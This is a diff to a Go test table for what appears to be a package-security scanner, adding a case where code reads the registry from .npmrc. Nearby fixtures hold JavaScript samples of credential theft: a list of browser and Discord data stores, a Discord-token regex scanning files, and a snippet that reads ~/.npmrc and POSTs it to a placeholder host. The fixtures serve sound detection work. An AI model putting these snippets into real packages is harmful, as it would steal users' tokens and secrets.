@@ -103,6 +103,9 @@ func TestFileAccess(t *testing.T) {
 		{"slack_webhook_client", map[string]string{"index.js": `fetch("https://hooks.slack.com/services/T000/B000/XXXX", {method: "POST", body: JSON.stringify({text: "deployed"})})`}, finding.SeverityNone},
 		{"browser_store_list", map[string]string{"index.js": `const t=["Google/Chrome/User Data/Default","BraveSoftware/Brave-Browser/User Data","discord/Local Storage/leveldb"]`}, finding.SeverityHigh},
 		{"discord_token_regex", map[string]string{"index.js": `const re = /[\w-]{24}\.[\w-]{6}\.[\w-]{27}/g; fs.readdirSync(dir).forEach(f => fs.readFileSync(f).toString().match(re))`}, finding.SeverityHigh},
+		// a package manager reads the registry (and its token) from
+		// .npmrc and sends to that registry
+		{"npmrc_registry_client", map[string]string{"index.js": `const fs = require("fs"); const rc = fs.readFileSync(require("path").join(require("os").homedir(), ".npmrc"), "utf8"); const registry = /registry=(.*)/.exec(rc)[1]; module.exports = name => fetch(registry + name)`}, finding.SeverityMedium},
 		{"npmrc_read_and_sent", map[string]string{"index.js": `const t = require("fs").readFileSync(require("os").homedir() + "/.npmrc", "utf8"); require("https").request({hostname: "x.example.invalid", method: "POST"}).end(t)`}, finding.SeverityHigh},
 		// credentials asked of their own CLI: at install, or by a release tool
 		{"gh_token_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
